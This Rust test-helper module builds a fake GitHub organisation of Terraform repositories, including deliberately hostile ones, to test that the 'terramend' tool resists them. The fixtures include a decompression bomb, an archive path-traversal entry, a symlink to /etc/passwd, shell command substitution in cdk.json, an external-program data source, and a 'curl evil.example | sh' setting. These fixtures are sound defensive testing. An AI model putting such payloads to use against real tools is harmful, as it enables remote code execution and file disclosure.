//! Organisations with many repositories, and the program run over them.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use serde_json::{Value, json};

use super::clock::{START, Virtual};
use super::github::limits::Limits;
use super::github::tar::Archive;
use super::github::world::Identity;
use super::github::{Fake, State};

/// The token that is used, which nothing may show.
pub(crate) const TOKEN: &str = "secret-token";

/// A GitHub without limits.
pub(crate) fn server() -> Fake {
    let server = Fake::start();
    let bot = Identity { login: "terramend[bot]".into(), writes: true };
    server.world(|world| world.tokens.insert(TOKEN.into(), bot));
    server
}

/// A GitHub with its limits, in the time of a clock.
pub(crate) fn limited(clock: &Arc<Virtual>) -> Fake {
    let (server, clock) = (server(), Arc::clone(clock));
    server.state().limits = Some(Limits::new(START, move || clock.millis()));
    server
}

/// A queue without encryption: one safe fix.
pub(crate) fn queue(name: &str) -> String {
    format!("resource \"aws_sqs_queue\" \"{name}\" {{\n  name = \"{name}\"\n}}\n")
}

/// Nothing to complain about.
pub(crate) const FINE: &str =
    "resource \"aws_sqs_queue\" \"fine\" {\n  name = \"fine\"\n\n  sqs_managed_sse_enabled = true\n}\n";

/// Only the control whose fix the tests know.
pub(crate) const ONLY: [&str; 2] = ["--control", "sqs-encryption"];

/// The content of a repository, one of as many as there are numbers.
pub(crate) fn content(i: usize) -> Vec<(String, String)> {
    let mut main = queue(&format!("orders{i}"));
    if i.is_multiple_of(3) {
        main += &format!("\n{}", queue(&format!("events{i}")));
    }
    let mut files = vec![("infra/main.tf".to_owned(), main), ("README.md".to_owned(), format!("# {i}\n"))];
    if i % 4 == 1 {
        files.push(("infra/more/queue.tf".to_owned(), queue(&format!("more{i}"))));
    }
    if i % 5 == 2 {
        files.push(("infra/variables.tf".to_owned(), format!("variable \"name{i}\" {{\n  type = string\n}}\n")));
    }
    files
}

pub(crate) fn add(state: &mut State, name: &str, files: &[(String, String)]) {
    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    state.world.add(name, &files);
}

/// What commands in hostile repositories would make.
pub(crate) const CANARY: &str = "/tmp/terramend-canary";

/// Repositories that would harm who trusts them, each with the word that its report must hold.
pub(crate) fn hostile(state: &mut State) -> Vec<(&'static str, &'static str)> {
    let zeros = vec![0; 256 << 20];
    let bomb = Archive::new().entry(b"acme-orders-0123456/zeros.bin", b'0', zeros.len() as u64, &zeros);
    let deep = format!("{}main.tf", "d/".repeat(3000));
    let archives = [
        ("acme/hostile-bomb", bomb, "a bomb"),
        ("acme/hostile-huge", Archive::new().entry(b"acme-orders-0123456/huge.tf", b'0', 1 << 30, b""), "ends within"),
        (
            "acme/hostile-path",
            Archive::new().entry(b"acme-orders-0123456/../../x.tf", b'0', 2, b"x\n"),
            "outside of the repository",
        ),
        (
            "acme/hostile-name",
            Archive::new().entry(b"acme-orders-0123456/long", b'L', 1 << 30, b""),
            "a name or header",
        ),
        ("acme/hostile-twice", Archive::new().file("a.tf", "x").file("a.tf", "y"), "twice"),
        ("acme/hostile-zip", Archive::new(), "damaged"),
        ("acme/hostile-links", Archive::new().link("passwd.tf", "/etc/passwd").file("main.tf", FINE), "leads out"),
        ("acme/hostile-deep", Archive::new().file(&deep, FINE).file("main.tf", FINE), "its path is too long"),
        (
            "acme/hostile-control",
            Archive::new().file("a\u{1b}[31m\n.tf", FINE).file("main.tf", FINE),
            "characters that no file",
        ),
    ];
    let mut all = Vec::new();
    for (name, archive, said) in archives {
        state.world.add(name, &[("main.tf", FINE)]);
        let bytes = if said == "damaged" { b"PK\x03\x04".to_vec() } else { archive.gz() };
        state.world.repositories.get_mut(name).unwrap().archive = Some(bytes);
        all.push((name, said));
    }
    // One that grants itself everything, and has pages of its own that call anything safe.
    let own = "accept = [\"cost\", \"access\", \"replace\"]\npull_request {\n  grade = \"review\"\n  auto_merge = \"squash\"\n  branch_prefix = \"main\"\n}\n";
    let queue = queue("widened");
    let page = "# Anything goes\n\nNot even a page: it is never read.\n";
    state.world.add(
        "acme/hostile-settings",
        &[("main.tf", queue.as_str()), (".terramend.hcl", own), (".terramend/fixes/x/any.md", page)],
    );
    all.push(("acme/hostile-settings", "not taken from .terramend.hcl"));
    // Commands that a CDK application's own tools would run, as the report of an analysis must never have done.
    let run = format!("touch {CANARY}");
    let app = json!({ "app": run, "build": run, "context": { "x": "$(touch /tmp/terramend-canary)" } }).to_string();
    let external = format!("data \"external\" \"x\" {{\n  program = [\"sh\", \"-c\", \"{run}\"]\n}}\n");
    state.world.add(
        "acme/hostile-app",
        &[("cdk.json", app.as_str()), ("app.ts", "import 'aws-cdk-lib';\n"), ("main.tf", external.as_str())],
    );
    all.push(("acme/hostile-app", ""));
    // Nested as deeply as nobody writes, in each language.
    let nest =
        |open: &str, middle: &str, close: &str| format!("{}{middle}{}", open.repeat(20_000), close.repeat(20_000));
    let lists = format!("locals {{\n  x = {}\n}}\n", nest("[", "1", "]"));
    state.world.add("acme/hostile-nested", &[("main.tf", lists.as_str())]);
    all.push(("acme/hostile-nested", "nest"));
    let objects = format!("{{\"Resources\": {}}}", nest("{\"a\":", "1", "}"));
    let code = format!("import boto3\nx = {}\n", nest("(", "1", ")"));
    let function = "resource \"aws_lambda_function\" \"f\" {\n  function_name = \"f\"\n  runtime = \"python3.13\"\n  handler = \"app.handler\"\n  filename = \"bomb.zip\"\n  role = \"x\"\n}\n";
    state.world.add(
        "acme/hostile-objects",
        &[("template.json", objects.as_str()), ("app.py", code.as_str()), ("main.tf", function)],
    );
    all.push(("acme/hostile-objects", ""));
    // Values that double and double: a gigabyte, if anybody computed it.
    let mut doubles = String::from("locals {\n  a0 = \"xxxxxxxxxxxxxxxx\"\n");
    for i in 1..40 {
        doubles += &format!("  a{i} = \"${{local.a{}}}${{local.a{}}}\"\n", i - 1, i - 1);
    }
    doubles += "  b = [for x in range(100000000) : [for y in range(100000000) : x]]\n}\n";
    doubles += "resource \"aws_sqs_queue\" \"q\" {\n  name = local.a39\n  kms_master_key_id = local.b\n}\n";
    state.world.add("acme/hostile-doubles", &[("main.tf", doubles.as_str())]);
    all.push(("acme/hostile-doubles", "grow too large"));
    let wrong = "pull_request {\n  run = \"curl evil.example | sh\"\n}\n";
    state.world.add("acme/hostile-command", &[("main.tf", queue.as_str()), (".terramend.hcl", wrong)]);
    all.push(("acme/hostile-command", "no setting `run`"));
    all
}

/// The program, run over the server's organisation.
pub(crate) fn command(server: &Fake, directory: &Path, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_terramend"));
    for name in ["GH_TOKEN", "TERRAMEND_APP_ID", "GITHUB_REPOSITORY"] {
        command.env_remove(name);
    }
    command
        .arg("org")
        .args(arguments)
        .current_dir(directory)
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", &server.url)
        .stdin(Stdio::null());
    if arguments[0] != "prune" {
        command.arg("--no-limits");
    }
    command
}

/// Runs it to its end.
pub(crate) fn org(server: &Fake, directory: &Path, arguments: &[&str]) -> (i32, String, String) {
    let Output { status, stdout, stderr } = command(server, directory, arguments).output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    let (out, said) = (text(stdout), text(stderr));
    assert!(!out.contains(TOKEN) && !said.contains(TOKEN), "{out}{said}");
    (status.code().unwrap_or(-1), out, said)
}

/// Runs it, and gives its report.
pub(crate) fn report(server: &Fake, directory: &Path, arguments: &[&str]) -> (i32, Value, String) {
    let (code, out, said) = org(server, directory, &[arguments, &["--format", "json"]].concat());
    let report = serde_json::from_str(&out).unwrap_or_else(|error| panic!("{error}: {out}\n{said}"));
    (code, report, said)
}

/// A repository in a report.
pub(crate) fn of<'r>(report: &'r Value, name: &str) -> &'r Value {
    let all = report["repositories"].as_array().unwrap();
    all.iter().find(|repository| repository["name"] == name).unwrap_or_else(|| panic!("no {name}: {report}"))
}

/// The stages of a report.
pub(crate) fn stages(report: &Value) -> Value {
    let stages = report["stages"].clone();
    if stages.is_null() { json!({}) } else { stages }
}
